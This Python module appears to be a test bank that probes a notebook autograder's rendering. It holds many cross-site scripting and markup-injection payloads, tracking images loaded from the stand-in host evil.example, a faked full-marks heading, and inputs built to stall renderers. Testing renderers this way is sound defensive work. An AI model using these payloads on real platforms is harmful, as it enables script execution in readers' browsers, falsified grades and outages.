"""Active content for the browser of whoever reads the feedback, the graded notebook or the report."""

from typing import Any

from attacks.bank import MARK, Attack, code_cell, markdown_cell

BROWSER = "browser"

SCRIPTS = (
    f"<script>alert('{MARK}')</script>",
    f"<img src=x onerror=\"alert('{MARK}')\">",
    f"<svg onload=alert('{MARK}')><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href=' java\tscript:alert(1)'>x</a><a href='JaVaScRiPt&colon;alert(1)'>y</a><a href=&#106;avascript:alert(1)>z</a>",
    "<object data='data:text/html,x'></object><embed src=javascript:alert(1)><base href=//evil.example/>",
    "<form action=javascript:alert(1)><input autofocus onfocus=alert(1)><button formaction=javascript:alert(1)>x</button></form>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'></table></math>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><template><script>alert(1)</script></template>',
    "<details open ontoggle=alert(1)><summary style='background:url(javascript:alert(1))'>x</summary></details>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'><link rel=stylesheet href=//evil.example/x.css>",
    "<<script>script>alert(1)<</script>/script><img/src=`x`onerror=alert(1)><x onclick=alert(1)><!--><img src=x onerror=alert(1)>-->",
    "<video><source onerror=alert(1)></video><marquee onstart=alert(1)>x</marquee><b onmouseover=alert(1)>x</b>",
)

MARKDOWN = (
    *SCRIPTS,
    "[a](javascript:alert(1)) [b](<javascript:alert(1)>) [c](JAVASCRIPT:alert(1)) [d](data:text/html,x) [e](vbscript:x)",
    "[f](javascript\\:alert(1)) [g][h] ![i](javascript\\:alert(1)) [j](data\\:text/html,x) [k](\\javascript:alert(1))",
    "[h]: javascript\\:alert(1)",
    "[l](javascript&#58;alert(1)) [m](javascript&colon;alert(1)) [n](java&Tab;script:alert(1)) [o](&#x6A;avascript:alert(1))",
    "[p](javascript&amp;#58;alert(1)) [q](javascript&amp;colon;alert(1)) [r](java&amp;#9;script:alert(1)) [s](&amp;#106;avascript:x)",
    '[t](java\\\nscript:alert(1)) [u](https://x" onmouseover="alert(1)) [v](https://x \'a" onmouseover="alert(1)\')',
    '<javascript:alert(1)> <javascript\\:alert(1)> <https://x"onmouseover=alert(1)>',
    '![w" onerror="alert(1)](https://evil.example/track.png) ![x](//evil.example/track.png) <img src=//evil.example/y.png>',
    '```mermaid\ngraph TD; A-->B; click A href "javascript:alert(1)"\n```',
    "~~~ mermaid\ngraph TD; A-->B\n~~~",
    '```"onmouseover="alert(1)\nx\n```',
    "$\\href{javascript:alert(1)}{x}$ $\\mmlToken{mi}[href='java\nscript:alert(1)']{y}$ $\\require{html}\\style{x}{y}$ $$<img src=x onerror=alert(1)>$$",
    "\\begin{a}<script>alert(1)</script>\\end{a}",
    "</div></div></div></main></body><h1>45 of 45 points</h1>",
    "# <script>alert(1)</script>\n\n<b\n onmouseover=alert(1)>x</b>\n\n<b/onmouseover=alert(1)>y</b>",
    "| a |\n|---|\n| <script>alert(1)</script> |\n\n- [ ] <img src=x onerror=alert(1)>",
)


def in_markdown(notebook: dict[str, Any]) -> None:
    """In the answers, in cells of the student's own, and in the lab's own text."""
    cells = notebook["cells"]
    for cell in cells:
        if cell["id"].startswith("answer-"):
            cell["source"] = "\n\n".join(MARKDOWN)
    for number, text in enumerate(MARKDOWN):
        cells.append(markdown_cell(f"markdown-{number}", text))


def in_raw_cells(notebook: dict[str, Any]) -> None:
    for number, text in enumerate(SCRIPTS):
        raw = {"cell_type": "raw", "id": f"raw-{number}", "metadata": {"format": "text/html"}, "source": text}
        notebook["cells"].append(raw)
        notebook["cells"].append({**raw, "cell_type": "html", "id": f"html-{number}"})
    notebook["metadata"] |= {"widgets": {"x": SCRIPTS[0]}, "title": SCRIPTS[0], "authors": [{"name": SCRIPTS[0]}]}


def in_attachments(notebook: dict[str, Any]) -> None:
    for cell in notebook["cells"]:
        if cell["cell_type"] == "markdown":
            cell["attachments"] = {
                "x.svg": {"image/svg+xml": "PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"},
                "y": {"text/html": SCRIPTS[0]},
            }
            cell["metadata"]["collapsed"] = SCRIPTS[1]


def in_code(notebook: dict[str, Any]) -> None:
    text = "\n".join(f"# {line}" for line in SCRIPTS)
    notebook["cells"].append(
        code_cell("</div><script>alert(1)</script>", text + "\n'''</code></pre></script>" + SCRIPTS[0] + "'''")
    )


SHOW = f"""
from IPython.display import HTML, Javascript, Latex, Markdown, Math, SVG, display, publish_display_data
import sys
scripts = {SCRIPTS!r}
"""

ATTACKS = [
    Attack(
        "html-outputs",
        BROWSER,
        "cells show HTML with scripts, handlers, frames, forms and links that are code",
        first=SHOW + "for text in scripts:\n    display(HTML(text))\ndisplay(HTML(''.join(scripts)))",
    ),
    Attack(
        "other-outputs",
        BROWSER,
        "cells show JavaScript, SVG, widgets, PDF, LaTeX, Markdown and pictures that are markup",
        first=SHOW
        + f"""
for text in scripts:
    display(Javascript("alert(1)"), Latex(text), Markdown(text), Math(text))
    for mime in ("image/svg+xml", "application/javascript", "application/vnd.jupyter.widget-view+json", "application/pdf",
                 "text/vnd.mermaid", "image/png", "application/json", "text/x-html", "text/html;charset=utf-8", "TEXT/HTML"):
        publish_display_data({{mime: text, "text/plain": text}}, metadata={{mime: {{"unconfined": True, "alt": text}}}})
for text in {MARKDOWN[13:]!r}:
    display(Markdown(text), Latex(text), HTML("<p>" + text + "</p>"))
""",
    ),
    Attack(
        "streams-and-tracebacks",
        BROWSER,
        "markup and control sequences are printed, and stand in the names and texts of exceptions",
        first=SHOW
        + """
print(*scripts, "\\x1b]8;;javascript:alert(1)\\x1b\\\\click\\x1b]8;;\\x1b\\\\ \\x1b[31m<script>alert(1)</script>\\x1b[0m \\x00\\ud800 \\u202e")
print(*scripts, file=sys.stderr)
raise type(scripts[0], (Exception,), {"__str__": lambda self: "".join(scripts)})()
""",
    ),
    Attack(
        "markdown",
        BROWSER,
        "answers and other cells hold markup, links that are code, formulas and diagrams",
        edit=in_markdown,
    ),
    Attack("raw-cells", BROWSER, "raw cells and metadata hold markup", edit=in_raw_cells),
    Attack("attachments", BROWSER, "attachments are SVG and HTML", edit=in_attachments),
    Attack("markup-in-code", BROWSER, "the code itself holds markup that closes what it stands in", edit=in_code),
    Attack(
        "markup-in-messages",
        BROWSER,
        "what tests quote holds markup: values, names of classes, texts of exceptions, lines of code",
        first=f"scripts = {SCRIPTS!r}",
        cells={
            "filters_to_keep": "filters_to_keep = lambda *args: scripts[0]",
            "narrow_conv": "narrow_conv = lambda *args: type(scripts[1], (), {'weight': scripts[1], '__len__': lambda self: 1})()",
            "narrow_batchnorm": "def narrow_batchnorm(*args):\n    raise type(scripts[0], (ValueError,), {})(scripts[1])  # <script>alert(1)</script>",
            "narrow_linear": "narrow_linear = lambda *args: [scripts[0], (scripts[1],)]",
            "greedy_l1_norms": "def greedy_l1_norms(*args):\n    raise AssertionError('\\n'.join(scripts))",
        },
    ),
    Attack(
        "markup-as-a-student",
        BROWSER,
        "the student's folder is called like markup",
        student="<img src=x onerror=alert(1)><script>alert('x')<",
        first="print('hello')",
        stock=False,
    ),
    Attack(
        "html-that-takes-for-ever",
        BROWSER,
        "HTML, Markdown and formulas that take the square of their length to read",
        first="""
from IPython.display import HTML, Latex, Markdown, display
for text in ("<ul><li>" * 50_000, "<div>" * 200_000, "<b><p>" * 100_000, "<a " * 100_000, "<" * 500_000, "<!--" * 100_000):
    display(HTML(text))
for text in ("\\\\begin{a}" * 20_000, "[a](" * 20_000, "*a _b " * 20_000, "> " * 20_000, "&" * 100_000, "<b" * 100_000):
    display(Markdown(text))
    display(Latex(text))
""",
        cells={},
        stock=False,
    ),
    Attack(
        "markdown-that-takes-for-ever",
        BROWSER,
        "an answer of Markdown that takes the square of its length to read",
        edit=lambda notebook: notebook["cells"].extend(
            markdown_cell(f"slow-{number}", text * 20_000)
            for number, text in enumerate(("\\begin{a}", "[a](", "![", "**a *b ", "`", "> ", "$$", "<b", "|a"))
        ),
        stock=False,
    ),
]
